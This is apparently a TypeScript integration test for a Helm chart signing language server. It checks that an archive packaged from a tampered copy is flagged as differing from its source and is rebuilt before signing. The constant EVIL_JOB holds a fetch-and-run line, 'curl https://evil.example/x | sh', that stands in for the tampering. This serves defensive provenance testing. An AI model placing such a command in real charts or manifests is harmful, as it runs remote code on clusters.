// The repository of issue 11.1 over JSON-RPC: `charts/prebuilt/` (clean source) next to
// `charts/prebuilt-0.1.0.tgz` packaged from a modified copy (a `curl … | sh` template). The chart is
// "out of date" and its lens offers Package and Sign; the sign request on its Chart.yaml or folder is
// refused with the difference and writes nothing; the archive named explicitly is still signed and
// said to differ; Package and Sign rebuilds it from the source, and signing again then signs that.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { fileURLToPath } from 'node:url';
import { packageChart } from '../../server/src/provenance/package';
import { COMMANDS, SignRequest } from '../../server/src/lsp/protocol';
import { fixtureFingerprint, helm, signedKeys, tempDir } from '../support/tools';
import { LspSession, uriOf } from './lspSession';

const fingerprint = fixtureFingerprint('ed25519');
const publicKeyring = path.join(signedKeys, 'ed25519.pub.gpg');
const EVIL_JOB = 'kind: Job\nspec:\n  command: ["sh", "-c", "curl https://evil.example/x | sh"]\n';

describe('Sign Chart signs the archive of the source as it is now', () => {
  let workspace: string;
  let chartDir: string;
  let chartYaml: string;
  let archive: string;
  let shipped: Buffer;
  let session: LspSession;

  before(async () => {
    workspace = tempDir('lsp-sign-source-');
    chartDir = path.join(workspace, 'charts', 'prebuilt');
    fs.mkdirSync(path.join(chartDir, 'templates'), { recursive: true });
    fs.writeFileSync(path.join(chartDir, 'Chart.yaml'), 'apiVersion: v2\nname: prebuilt\nversion: 0.1.0\n');
    fs.writeFileSync(path.join(chartDir, 'templates', 'job.yaml'), 'kind: Job\nspec:\n  command: ["echo", "hello"]\n');
    const copy = path.join(tempDir('lsp-sign-source-copy-'), 'prebuilt');
    fs.cpSync(chartDir, copy, { recursive: true });
    fs.writeFileSync(path.join(copy, 'templates', 'job.yaml'), EVIL_JOB);
    const packaged = await packageChart(copy, { outDir: path.join(workspace, 'charts') });
    assert.ok(packaged.ok);
    archive = packaged.value.archivePath;
    shipped = fs.readFileSync(archive);
    chartYaml = path.join(chartDir, 'Chart.yaml');
    session = await LspSession.start({
      workspace,
      settings: { keyrings: [publicKeyring], secretKeyring: path.join(signedKeys, 'ed25519.sec.gpg'), defaultSigningKey: fingerprint },
      // The server runs the lens commands itself, as for Neovim or Helix.
      initializationOptions: { clientHandlesCommands: false },
    });
  });

  after(async () => {
    await session.stop();
    fs.rmSync(workspace, { recursive: true, force: true });
  });

  const nothingWritten = (): void => {
    assert.ok(!fs.existsSync(`${archive}.prov`), 'no .prov written');
    assert.ok(fs.readFileSync(archive).equals(shipped), 'the shipped archive is left as it is');
  };

  test('the sign request on the chart (Chart.yaml or folder) is refused with the difference and the next step', async () => {
    const status = await session.waitForStatus('the chart is out of date', (s) => s.uri === uriOf(chartYaml) && s.state === 'stale');
    assert.equal(status.code, 'archive-differs-from-source');
    assert.match(status.message, /^Archive out of date: templates\/job\.yaml changed since packaging\./);
    for (const uri of [uriOf(chartYaml), uriOf(chartDir)]) {
      const result = await session.connection.sendRequest(SignRequest.type, { uri });
      assert.ok(!result.ok, JSON.stringify(result));
      assert.equal(result.error.code, 'archive-differs-from-source');
      assert.match(result.error.message, /prebuilt-0\.1\.0\.tgz is not what packaging .*prebuilt writes now — 1 file differs: templates\/job\.yaml \(differs\)\. Nothing was signed/);
      assert.match(result.error.message, /Package Chart to rebuild it from the source, then sign/);
      nothingWritten();
    }
  });

  test('the lens offers Package and Sign, never a Sign Chart that can only be refused', async () => {
    const [lens] = await session.codeLens(uriOf(chartYaml));
    assert.equal(lens.command!.title, '⚠ Archive out of date: templates/job.yaml changed since packaging — Package and Sign');
    assert.equal(lens.command!.command, COMMANDS.packageAndSignChart);
    nothingWritten();
  });

  test('the archive named explicitly is signed, and the result says it differs from the chart folder next to it', async () => {
    const result = await session.connection.sendRequest(SignRequest.type, { uri: uriOf(archive) });
    assert.ok(result.ok, JSON.stringify(result));
    assert.equal(fileURLToPath(result.archive), archive);
    assert.equal(result.packaged, false);
    assert.equal(result.origin.kind, 'differs-from-source');
    assert.equal(result.origin.chartFolder, uriOf(chartDir));
    assert.match(result.origin.message, /^prebuilt-0\.1\.0\.tgz was NOT built from the chart source in .*prebuilt as it is now — 1 file differs: templates\/job\.yaml \(differs\)\.$/);
    assert.ok(fs.existsSync(`${archive}.prov`));
    assert.ok(fs.readFileSync(archive).equals(shipped));
  });

  test('Package and Sign rebuilds the archive from the source; signing the chart again then signs that archive', async () => {
    const rebuilt = await session.connection.sendRequest(SignRequest.type, { uri: uriOf(chartYaml), packageFirst: true });
    assert.ok(rebuilt.ok, JSON.stringify(rebuilt));
    assert.equal(rebuilt.origin.kind, 'packaged');
    assert.equal(rebuilt.status.state, 'verified');
    assert.ok(!fs.readFileSync(archive).equals(shipped), 'the archive was rebuilt');
    assert.doesNotMatch(helm(['template', 'rel', archive]).stdout, /curl/);

    const again = await session.connection.sendRequest(SignRequest.type, { uri: uriOf(chartYaml) });
    assert.ok(again.ok, JSON.stringify(again));
    assert.equal(again.origin.kind, 'matches-source');
    assert.equal(again.status.state, 'verified');
    const verified = helm(['verify', '--keyring', publicKeyring, archive]);
    assert.equal(verified.status, 0, verified.stderr);
  });
});
